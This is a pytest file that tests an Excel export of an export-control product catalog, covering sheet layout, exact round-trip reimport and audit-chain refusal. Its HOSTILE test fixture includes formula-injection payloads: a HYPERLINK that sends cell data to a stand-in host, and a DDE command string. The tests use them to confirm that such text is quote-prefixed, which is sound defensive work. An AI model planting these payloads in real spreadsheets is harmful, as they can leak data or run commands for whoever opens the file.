"""The Excel export: sheets and layout, a Catalog sheet that the catalog's own import reads back to
identical rows, text that never becomes a formula, and cells that cannot be written exactly are
marked or refused and reported, never silently truncated (reliability.md targets 13, 14, 24)."""

from __future__ import annotations

import re
import zipfile

import openpyxl
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from report_helpers import H20, H100, add_products, add_sample_letter, fresh_catalog
from workbench.engine.spec import TEMPLATE_FIELDS, ProductSpec
from workbench.services.import_products import import_products
from workbench.services.reports import Cancelled, export_workbook
from workbench.store import audit
from workbench.store.products import all_products

SHEETS = ["Catalog", "Determinations", "Comparison", "Letters", "Deals", "Sources", "About"]
HOSTILE = {
    "name": '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
    "vendor": "+1+1",
    "notes": "@SUM(A1:A9)\nsecond line",
    "source": "-2+3 cmd|' /C calc'!A0",
}


@pytest.fixture
def catalog(tmp_path):
    conn = fresh_catalog(tmp_path)
    yield conn
    conn.close()


def _formulas(path) -> list[str]:
    with zipfile.ZipFile(path) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and re.search(rb"<f[ >]", z.read(n))]


def test_sheets_layout_and_number_formats(catalog, library, tmp_path):
    out = tmp_path / "export.xlsx"
    result = export_workbook(catalog, library, out, ["us-ear-2022-10", "us-ear-2023-10"], "CN")
    assert (result.products, result.determinations, result.flagged) == (53, 106, [])
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == SHEETS
    for ws in wb:
        assert ws.freeze_panes is not None and ws.auto_filter.ref, ws.title
        assert all(c.font.b for c in ws[1]), ws.title
        assert ws.column_dimensions["A"].width >= 12
    catalog_ws = wb["Catalog"]
    assert [c.value for c in catalog_ws[1]] == list(TEMPLATE_FIELDS)
    assert catalog_ws.auto_filter.ref == f"A1:{catalog_ws.cell(1, len(TEMPLATE_FIELDS)).column_letter}54"
    det = wb["Determinations"]
    header = [c.value for c in det[1]]
    rows = [dict(zip(header, (c.value for c in row))) for row in det.iter_rows(min_row=2)]
    h100 = next(r for r in rows if r["part_number"] == H100 and r["regime"] == "us-ear-2023-10")
    assert h100["classification"] == "3A090.a" and h100["paragraph"] == "3A090.a.1"
    assert h100["tpp"] == pytest.approx(15832) and h100["licence_required"] == "yes"
    assert h100["review_policy"] == "presumption_of_denial"
    assert "3A090.a.1: Total processing performance (TPP) 15,832 ≥ 4,800: met (margin 11,032, +229.8%)" in h100["criteria"]
    tpp_cell = det.cell(2, header.index("tpp") + 1)
    assert tpp_cell.number_format == "#,##0" and det.cell(2, header.index("nearest_margin_pct") + 1).number_format.startswith("+0.0")


def test_catalog_sheet_reimports_to_identical_rows(catalog, library, tmp_path):
    add_products(catalog, ProductSpec(part_number="HOSTILE-1", fp16_tflops=10.0, **HOSTILE),
                 ProductSpec(part_number="CR-1", name="\rstarts with CR", notes="a\r\nb _x000D_ literal"),
                 ProductSpec(part_number="ERR-1", name="#N/A", vendor="#DIV/0!", notes="  spaced  "))
    out = tmp_path / "export.xlsx"
    export_workbook(catalog, library, out, ["us-ear-2023-10"])
    target = fresh_catalog(tmp_path, "empty.db", with_demo=False)
    plan = import_products(target, out)
    assert plan.sheet == "Catalog" and len(plan.added) == 56 and not plan.changed
    assert all_products(target) == all_products(catalog)
    target.close()


def test_no_exported_cell_is_a_formula_and_trigger_text_is_quote_prefixed(catalog, library, tmp_path):
    add_products(catalog, ProductSpec(part_number="=HOSTILE()", fp16_tflops=10.0, **HOSTILE),
                 ProductSpec(part_number="ERR-1", name="#N/A"),
                 provenance=[("=HOSTILE()", "fp16_tflops", "=1+1", "@secondary", "+note")])
    out = tmp_path / "export.xlsx"
    export_workbook(catalog, library, out)
    assert _formulas(out) == []
    wb = openpyxl.load_workbook(out)
    found = 0
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", cell.coordinate
                    if cell.value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                        assert cell.quotePrefix, f"{ws.title}!{cell.coordinate}"
                        found += 1
    assert found >= 8
    values = {c.value for c in wb["Catalog"]["A"]}
    assert "=HOSTILE()" in values
    err = next(r for r in wb["Catalog"].iter_rows(min_row=2) if r[0].value == "ERR-1")
    assert (err[2].value, err[2].data_type) == ("#N/A", "s")


def test_control_characters_are_marked_and_over_long_text_refused_and_reported(catalog, library, tmp_path):
    long_text = "x" * 40_000
    add_products(catalog, ProductSpec(part_number="BAD-1", name="bell\x07 and nul\x00", notes=long_text))
    out = tmp_path / "export.xlsx"
    result = export_workbook(catalog, library, out, ["us-ear-2023-10"])
    flagged = {(i.sheet, i.kind) for i in result.flagged}
    assert ("Catalog", "control characters") in flagged and ("Catalog", "too long") in flagged
    wb = openpyxl.load_workbook(out)
    ws = wb["Catalog"]
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == "BAD-1")
    name_cell, notes_cell = row[TEMPLATE_FIELDS.index("name")], row[TEMPLATE_FIELDS.index("notes")]
    assert name_cell.value == "bell␇ and nul␀"
    assert notes_cell.value.startswith("[not exported: 40,000 characters") and len(notes_cell.value) < 200
    issue = next(i for i in result.flagged if i.kind == "too long")
    assert issue.cell == notes_cell.coordinate
    about = [[c.value for c in r] for r in wb["About"].iter_rows()]
    reported = {r[0] for r in about}
    assert f"Catalog!{name_cell.coordinate}" in reported and f"Catalog!{notes_cell.coordinate}" in reported


_TEXT = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00\x01\x02\x03\x04\x05\x06\x07\x08"
                              "\x0b\x0c\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f\ufffe\uffff"),
                min_size=1, max_size=40)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(_TEXT, min_size=1, max_size=12))
@example([" ", "\n", " \n ", "\r", "_x0041_", "#N/A", "=1+1", "\ttab"])
def test_any_text_round_trips_exactly_through_a_safe_cell(tmp_path_factory, texts):
    from openpyxl import Workbook
    from python_calamine import CalamineWorkbook

    from workbench.io.xlsx_safe import text_cell

    path = tmp_path_factory.mktemp("rt") / "t.xlsx"
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("S")
    issues: list = []
    ws.append([text_cell(ws, t, sheet="S", coordinate=f"A{i}", issues=issues) for i, t in enumerate(texts, start=1)])
    wb.save(path)
    assert issues == [] and _formulas(path) == []
    row = CalamineWorkbook.from_path(str(path)).get_sheet_by_name("S").to_python()[0]
    got = [("" if v is None else v) for v in row] + [""] * (len(texts) - len(row))
    assert got == texts


def test_comparison_highlights_changed_cells(catalog, library, tmp_path):
    out = tmp_path / "export.xlsx"
    export_workbook(catalog, library, out, ["us-ear-2022-10", "us-ear-2023-10", "us-ear-2024-12-hbm"], "CN")
    ws = openpyxl.load_workbook(out)["Comparison"]
    assert [c.value for c in ws[1]] == ["part_number", "name", "us-ear-2022-10", "us-ear-2023-10",
                                        "us-ear-2024-12-hbm", "changes"]
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == "AMD-MI210-64GB")
    assert row[2].value == "not 3A090/4A090 / no licence required"
    assert row[3].value.startswith("3A090.b.1 / licence required") and row[3].fill.fgColor.rgb.endswith("FFF2CC")
    assert row[4].value == row[3].value and row[4].fill.fill_type is None
    assert row[5].value == 1


def test_about_sheet_anchors_the_audit_head_and_ruleset_hashes(catalog, library, tmp_path):
    out = tmp_path / "export.xlsx"
    export_workbook(catalog, library, out, ["us-ear-2023-10"])
    about = {r[0].value: r[1].value for r in openpyxl.load_workbook(out)["About"].iter_rows(min_row=2)}
    seq, head = audit.head(catalog)
    assert about["audit_head_seq"] == seq and about["audit_head_sha256"] == head
    assert about["ruleset us-ear-2023-10"] == library.get("us-ear-2023-10").sha256
    assert about["country_groups_sha256"] == library.countries.sha256
    assert about["export_report"] == "every cell was written exactly"
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", about["exported_utc"])


def test_letters_and_sources_sheets(catalog, library, tmp_path):
    ref = add_sample_letter(catalog)
    out = tmp_path / "export.xlsx"
    export_workbook(catalog, library, out, ["us-enforced-2025-05"], "CN")
    wb = openpyxl.load_workbook(out)
    letters = wb["Letters"]
    header = [c.value for c in letters[1]]
    rows = [dict(zip(header, (c.value for c in r))) for r in letters.iter_rows(min_row=2)]
    h20 = next(r for r in rows if r["part_number"] == H20)
    assert h20["ref"] == ref and h20["result"] == "binds" and h20["regimes"] == "us-enforced-2025-05"
    det = wb["Determinations"]
    dh = [c.value for c in det[1]]
    drow = next(dict(zip(dh, (c.value for c in r))) for r in det.iter_rows(min_row=2) if r[0].value == H20)
    assert drow["letters_binding"] == ref
    sources = [[c.value for c in r] for r in wb["Sources"].iter_rows(min_row=2)]
    h100 = [r for r in sources if r[0] == H100 and r[1] == "fp8_tflops"]
    assert h100 and h100[0][2] == pytest.approx(1979) and h100[0][4] == "secondary"


def test_cancel_and_failed_save_leave_no_file(catalog, library, tmp_path, monkeypatch):
    out = tmp_path / "export.xlsx"
    with pytest.raises(Cancelled):
        export_workbook(catalog, library, out, cancel=lambda: True)
    assert not out.exists()
    out.write_bytes(b"yesterday's export")

    def broken_save(self, fh):
        fh.write(b"PK\x03\x04 half")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(openpyxl.Workbook, "save", broken_save)
    with pytest.raises(OSError):
        export_workbook(catalog, library, out)
    assert out.read_bytes() == b"yesterday's export"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".export")] == []


@pytest.mark.parametrize("tamper, seq", [
    ("""UPDATE audit SET after_json = replace(after_json, '"fp8_tflops":296.0', '"fp8_tflops":29.6') WHERE seq = 12""", 12),
    ("DELETE FROM audit WHERE seq = 3", 3),
])
def test_a_broken_audit_chain_is_refused_before_anything_is_written(catalog, library, tmp_path, tamper, seq):
    from workbench.services.reports import CatalogNotTrustworthy
    from workbench.store.audit_verify import verify

    assert verify(catalog).ok
    catalog.execute("DROP TRIGGER audit_no_update")
    catalog.execute("DROP TRIGGER audit_no_delete")
    catalog.execute(tamper)
    assert verify(catalog).broken_seq == seq
    with pytest.raises(CatalogNotTrustworthy, match=f"broken at entry {seq}"):
        export_workbook(catalog, library, tmp_path / "e.xlsx")
    assert not (tmp_path / "e.xlsx").exists() and not catalog.in_transaction


def test_deals_sheet_reads_back_through_the_deals_import(catalog, library, tmp_path):
    from datetime import datetime

    from workbench.io.deals_xlsx import parse_deals
    from workbench.services.deals import DealService

    service = DealService(catalog, library)
    source = tmp_path / "deals.xlsx"
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["deal_ref", "deal_date", "exporter", "consignee_name", "consignee_country", "end_user_name",
               "end_user_country", "destination", "authorization", "status", "part_number", "quantity", "unit_value_usd"])
    ws.append(["D-1", datetime(2025, 6, 2), "Acme Exports Inc", "KL DC", "MY", "KL DC", "MY", "MY", "LPP", "shipped",
               H100, 10, 25000.5])
    wb.save(source)
    parsed = parse_deals(source, library.countries, set(service.specs()))
    assert parsed.errors == []
    service.save_many(parsed.deals)

    out = tmp_path / "export.xlsx"
    export_workbook(catalog, library, out, ["us-ear-2023-10", "us-enforced-2025-05"], "MY")
    assert _formulas(out) == []
    wb = openpyxl.load_workbook(out)
    deals = wb["Deals"]
    header = [c.value for c in deals[1]]
    row = dict(zip(header, (c.value for c in deals[2])))
    assert row["deal_ref"] == "D-1"
    assert row["regime"] == "us-enforced-2025-05" and row["classification"] == "3A090.a.1"
    assert row["line_tpp_total"] == "158320"
    assert deals.cell(2, header.index("deal_date") + 1).number_format == "yyyy-mm-dd"
    about = {r[0].value: r[1].value for r in wb["About"].iter_rows(min_row=2)}
    assert about["deals_regime"] == "us-enforced-2025-05"
    again = parse_deals(out, library.countries, set(service.specs()), sheet="Deals")
    assert again.errors == []
    assert [d.model_dump(exclude={"id"}) for d in again.deals] == [d.model_dump(exclude={"id"}) for d in service.deals()]
